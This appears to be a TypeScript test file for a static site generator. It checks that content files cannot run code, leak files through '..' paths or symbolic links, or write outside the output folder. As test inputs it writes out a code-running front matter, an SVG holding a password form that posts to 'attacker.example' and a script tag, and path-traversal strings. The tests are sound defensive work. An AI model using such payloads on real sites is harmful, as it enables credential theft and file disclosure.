// Content is data inside content/: a content file never runs code, and no path a content file
// names (and no link in the tree) reaches a file outside content/ or makes the build write
// outside its output folder.
import { afterEach, describe, expect, test } from 'vitest';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { loadAll, readContentFile } from '../../../generator/content/load.ts';
import { validate } from '../../../generator/validate/validate.ts';
import { formatProblem } from '../../../generator/problems/problems.ts';
import { Builder } from '../../../generator/build/build.ts';
import { ContentError } from '../../../generator/problems/problems.ts';
import { lineOf, root, sandbox, type Sandbox } from '../../helpers.ts';

const node = join(root, 'node_modules/.bin/node');
const site = (args: string[], cwd: string) => spawnSync(node, [join(root, 'bin/site.js'), ...args], { cwd, encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });

const POST = 'blog/fleet-management-trends-2024.md';
const SECRET = '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><title>SECRET-OUTSIDE-CONTENT</title></svg>';

let box: Sandbox | undefined;
afterEach(() => box?.remove());

/** Problems as an author sees them from the project folder (content/…). */
function problemsOf(b: Sandbox): string[] {
  return validate(loadAll(b.content), { contentDir: b.content, includeDrafts: false }).problems.map((p) => formatProblem({ ...p, file: p.file.replace(/^.*?\bcontent\//, 'content/') }));
}

/** Every file under `dir` (symlinks not followed), relative to it. */
function tree(dir: string): string[] {
  const files: string[] = [];
  const walk = (d: string) => {
    for (const entry of readdirSync(d, { withFileTypes: true })) {
      const p = join(d, entry.name);
      if (entry.isDirectory()) walk(p);
      else files.push(p.slice(dir.length + 1));
    }
  };
  walk(dir);
  return files.sort();
}

/** True when any file of the folder contains the marker of the outside file. */
function leaked(dir: string): boolean {
  return existsSync(dir) && tree(dir).some((f) => readFileSync(join(dir, f), 'utf8').includes('SECRET-OUTSIDE-CONTENT'));
}

describe('a content file runs no code', () => {
  test('a ---js front matter is refused by validate and build, and runs nothing', () => {
    box = sandbox();
    const pwned = join(box.dir, 'pwned.txt');
    box.write('blog/zz.md', `---js\n({ t: require('fs').writeFileSync(${JSON.stringify(pwned)}, 'ran') })\n---\nx\n`);
    const checked = site(['--content', box.content, 'validate'], box.dir);
    expect(checked.status).toBe(1);
    expect(checked.stderr).toMatch(/^\s+content\/blog\/zz\.md:1:1 {2}front matter must start with a line of exactly ---/m);
    const built = site(['--content', box.content, 'build', '--out', join(box.dir, 'dist')], box.dir);
    expect(built.status).toBe(1);
    expect(existsSync(pwned)).toBe(false);
    expect(existsSync(join(box.dir, 'dist'))).toBe(false);
  });
  test('an icon file that is not an SVG document is never pasted into a page: the icon shows nothing', async () => {
    box = sandbox();
    // No <svg> root: the sprite skips it, and the page must not carry the file's markup either.
    writeFileSync(join(box.content, 'images/icons/map.svg'), '<form action="https://attacker.example/"><input name="password"></form>');
    const builder = new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false });
    const outputs = await builder.full();
    const pages = [...outputs].filter(([file]) => file.endsWith('.html')).map(([, bytes]) => bytes.toString('utf8'));
    expect(pages.length).toBeGreaterThan(10);
    expect(pages.some((html) => html.includes('#icons-fuel'))).toBe(true);
    expect(pages.filter((html) => html.includes('attacker.example'))).toEqual([]);
    // With a script in it, it is refused where it is (an SVG of the site is a drawing only).
    const scripted = '<form action="https://attacker.example/"><input name="password"></form><script>alert(1)</script>';
    writeFileSync(join(box.content, 'images/icons/map.svg'), scripted);
    const refused = await new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false }).full().then(() => undefined, (e: unknown) => e);
    expect((refused as ContentError).problems?.map((p) => `${basename(p.file)}:${p.line}:${p.column} ${p.code}`)).toEqual([`map.svg:1:${scripted.indexOf('<script>') + 1} svg-active`]);
  });
});

describe('content stays inside content/', () => {
  test('an image path with ".." is a located problem, and the build writes nothing outside dist/', () => {
    box = sandbox();
    writeFileSync(join(box.dir, 'secret.svg'), SECRET);
    // images/../../../<sandbox>/secret.svg names the file beside content/; its copy would have
    // been written to assets/img/../../../<sandbox>/, outside the output folder.
    const escape = `images/../../../${basename(box.dir)}/secret.svg`;
    box.edit(POST, 'image: images/blog/fleet-trends.svg', `image: ${escape}`);
    const line = lineOf(box.read(POST), `image: ${escape}`);
    expect(problemsOf(box)).toEqual([expect.stringMatching(new RegExp(`^content/${POST}:${line}:8 {2}image: image "${escape.replace(/\./g, '\\.')}" .*"\\.\\."`))]);

    const before = tree(box.dir);
    const built = site(['--content', box.content, 'build', '--out', join(box.dir, 'dist')], box.dir);
    expect(built.status).toBe(1);
    expect(built.stderr).toContain(`content/${POST}:${line}:8`);
    expect(tree(box.dir)).toEqual(before);
  });

  test('a symbolic link in content/images to a file outside content/ is refused where it is used and where it is, and nothing is copied', () => {
    box = sandbox();
    writeFileSync(join(box.dir, 'secret.svg'), SECRET);
    symlinkSync(join(box.dir, 'secret.svg'), join(box.content, 'images/blog/leak.svg'));
    box.edit(POST, 'image: images/blog/fleet-trends.svg', 'image: images/blog/leak.svg');
    const line = lineOf(box.read(POST), 'image: images/blog/leak.svg');
    const problems = problemsOf(box);
    expect(problems).toContainEqual(expect.stringMatching(new RegExp(`^content/${POST}:${line}:8 {2}image: image "images/blog/leak\\.svg" is a symbolic link`)));
    expect(problems).toContainEqual(expect.stringMatching(/^content\/images\/blog\/leak\.svg:1:1 {2}is a symbolic link/));
    expect(problems).toHaveLength(2);

    const out = join(box.dir, 'dist');
    const built = site(['--content', box.content, 'build', '--out', out], box.dir);
    expect(built.status).toBe(1);
    expect(leaked(out)).toBe(false);
  });

  test('a symbolic link among the icons (copied into the sprite without any reference) is refused', async () => {
    box = sandbox();
    writeFileSync(join(box.dir, 'secret.svg'), SECRET);
    symlinkSync(join(box.dir, 'secret.svg'), join(box.content, 'images/icons/zz-leak.svg'));
    expect(problemsOf(box)).toEqual([expect.stringMatching(/^content\/images\/icons\/zz-leak\.svg:1:1 {2}is a symbolic link/)]);
    await expect(new Builder({ root, contentDir: box.content, mode: 'production', includeDrafts: false }).full()).rejects.toThrow(/content problem/);
    const out = join(box.dir, 'dist');
    expect(site(['--content', box.content, 'build', '--out', out], box.dir).status).toBe(1);
    expect(leaked(out)).toBe(false);
  });

  test('a symbolically linked content file in a collection folder is refused, not loaded', () => {
    box = sandbox();
    writeFileSync(join(box.dir, 'faq.yaml'), box.read('faqs/01-benefits.yaml').replace(/^order: \d+/m, 'order: 99'));
    symlinkSync(join(box.dir, 'faq.yaml'), join(box.content, 'faqs/99-linked.yaml'));
    expect(problemsOf(box)).toEqual([expect.stringMatching(/^content\/faqs\/99-linked\.yaml:1:1 {2}is a symbolic link/)]);
  });

  test('a collection folder that is a symbolic link is refused, not walked', () => {
    box = sandbox();
    renameSync(join(box.content, 'testimonials'), join(box.dir, 'testimonials'));
    symlinkSync(join(box.dir, 'testimonials'), join(box.content, 'testimonials'));
    const problems = problemsOf(box);
    expect(problems).toEqual([expect.stringMatching(/^content\/testimonials:1:1 {2}is a symbolic link/)]);
  });

  test('a symbolic link in content/static is refused', () => {
    box = sandbox();
    renameSync(join(box.content, 'static/favicon.ico'), join(box.dir, 'favicon.ico'));
    symlinkSync(join(box.dir, 'favicon.ico'), join(box.content, 'static/favicon.ico'));
    expect(problemsOf(box)).toEqual([expect.stringMatching(/^content\/static\/favicon\.ico:1:1 {2}is a symbolic link/)]);
  });

  test('a Markdown image with ".." or through a symbolic link is a located problem', () => {
    box = sandbox();
    writeFileSync(join(box.dir, 'secret.svg'), SECRET);
    symlinkSync(join(box.dir, 'secret.svg'), join(box.content, 'images/blog/leak.svg'));
    box.write(POST, `${box.read(POST)}\n![a chart](images/../../secret.svg)\n\n![a map](images/blog/leak.svg)\n`);
    const lines = box.read(POST).split('\n');
    const at = (needle: string) => lines.findIndex((l) => l.includes(needle)) + 1;
    const problems = problemsOf(box);
    expect(problems).toContainEqual(expect.stringMatching(new RegExp(`^content/${POST}:${at('](images/../')}:1 {2}body: image "images/\\.\\./\\.\\./secret\\.svg" .*"\\.\\."`)));
    expect(problems).toContainEqual(expect.stringMatching(new RegExp(`^content/${POST}:${at('](images/blog/leak')}:1 {2}body: image "images/blog/leak\\.svg" is a symbolic link`)));
  });

  test('an editor\'s lock link beside a post (Emacs writes .#post.md) is not content and not a problem', () => {
    box = sandbox();
    symlinkSync('author@host.1234:1700000000', join(box.content, 'blog/.#fleet-management-trends-2024.md'));
    expect(problemsOf(box)).toEqual([]);
  });
});

describe('a listed content file is read with one look at it', () => {
  test('readContentFile reads a regular file, and refuses a link, a pipe (without hanging), a folder and a missing file', () => {
    box = sandbox();
    const file = join(box.content, POST);
    const read = readContentFile(file);
    expect(read && 'bytes' in read ? read.bytes.toString('utf8') : read).toBe(readFileSync(file, 'utf8'));
    const link = join(box.dir, 'link.md');
    symlinkSync(file, link);
    const pipe = join(box.dir, 'pipe.md');
    expect(spawnSync('mkfifo', [pipe]).status).toBe(0);
    for (const path of [link, pipe, join(box.content, 'blog'), join(box.dir, 'missing.md')]) expect(readContentFile(path), path).toBeUndefined();
  });

  test('a pipe where a post was is reported as not a regular file, and loading does not hang', () => {
    box = sandbox();
    renameSync(join(box.content, POST), join(box.dir, 'moved.md'));
    expect(spawnSync('mkfifo', [join(box.content, POST)]).status).toBe(0);
    expect(problemsOf(box).join('\n')).toMatch(/content\/blog\/fleet-management-trends-2024\.md:1:1 .*not a regular file/);
  });
});
